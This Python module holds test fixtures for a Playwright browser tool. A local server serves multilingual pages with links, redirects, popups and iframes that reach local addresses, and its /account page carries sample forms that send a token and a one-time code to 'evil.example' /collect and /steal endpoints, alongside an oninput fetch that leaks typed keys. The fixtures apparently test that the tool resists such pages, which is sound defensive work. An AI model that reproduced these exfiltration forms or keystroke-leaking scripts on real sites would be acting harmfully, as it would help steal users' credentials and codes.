"""A service site whose pages reach for local addresses and another site, and the Chromium
whose every name resolves to this machine."""

from __future__ import annotations

import threading
from collections.abc import AsyncIterator
from http.server import BaseHTTPRequestHandler
from typing import ClassVar

import pytest_asyncio

from subterminator.browser.playwright_browser import LaunchOptions, PlaywrightBrowser


class _Recording(BaseHTTPRequestHandler):
    pages: ClassVar[dict[str, str]] = {}
    hits: ClassVar[list[str]] = []
    lock: ClassVar[threading.Lock] = threading.Lock()

    def log_message(self, format: str, *args: object) -> None:
        pass

    def _serve(self) -> None:
        length = int(self.headers.get("Content-Length") or 0)
        body = self.rfile.read(length).decode() if length else ""
        with self.lock:
            self.hits.append(f"{self.command} {self.path} {body}".strip())
        path = self.path.split("?")[0]
        if path.startswith("/go/"):  # /go/<port>/<path>: a redirect to that local port
            _, _, port, rest = path.split("/", 3)
            target = f"http://{'127.0.0.1' if port.isdigit() else port}"
            target += f":{port}/{rest}" if port.isdigit() else f"/{rest}"
            self.send_response(302)
            self.send_header("Location", target)
            self.end_headers()
            return
        page = self.pages.get(path, "<!doctype html><title>ok</title><h1>A page</h1>")
        page = page.replace("{{LOCAL}}", str(LOCAL_PORT[0])).replace(
            "{{EVIL}}", f"http://evil.example:{LOCAL_PORT[0]}"
        )
        data = page.encode()
        self.send_response(200)
        self.send_header("Content-Type", "text/html; charset=utf-8")
        self.send_header("Content-Length", str(len(data)))
        self.end_headers()
        self.wfile.write(data)

    do_GET = do_POST = _serve


LOCAL_PORT = [0]


SERVICE_HITS: list[str] = []


# In several languages: what decides is where a control goes, never what it says.
SERVICE_PAGES = {
    "/account": """<!doctype html><html lang="ka"><head><title>ანგარიში</title></head><body>
<h1>ანგარიში</h1>
<a href="http://127.0.0.1:{{LOCAL}}/reset-token">პაროლის აღდგენა</a>
<a href="/go/{{LOCAL}}/one-time-code">ჩემი კოდი</a>
<a href="{{EVIL}}/landing">Tovuti ya msaada</a>
<a href="{{EVIL}}/other">อีกหน้าหนึ่ง</a>
<form action="{{EVIL}}/collect" method="get"><input name="q" value="token-123">
<button>Tafuta</button></form>
<form action="{{EVIL}}/steal" method="post"><input name="code" value="654321">
<button>Wyślij</button></form>
<button onclick="window.open('http://127.0.0.1:{{LOCAL}}/popup')">Fungua dirisha</button>
<input aria-label="Jina" oninput="fetch('http://127.0.0.1:{{LOCAL}}/keys?v='+this.value)">
</body></html>""",
    "/framed": """<!doctype html><title>Frames</title><h1>Frames</h1>
<iframe src="http://127.0.0.1:{{LOCAL}}/in-frame"></iframe>
<iframe src="/go/{{LOCAL}}/frame-hop"></iframe>""",
}


@pytest_asyncio.fixture(loop_scope="session", scope="module")
async def chromium() -> AsyncIterator[PlaywrightBrowser]:
    # every name resolves to this machine: evil.example is "another site", and nothing leaves
    options = LaunchOptions(extra_args=("--host-resolver-rules=MAP * 127.0.0.1",))
    async with await PlaywrightBrowser.launch(options) as browser:
        yield browser
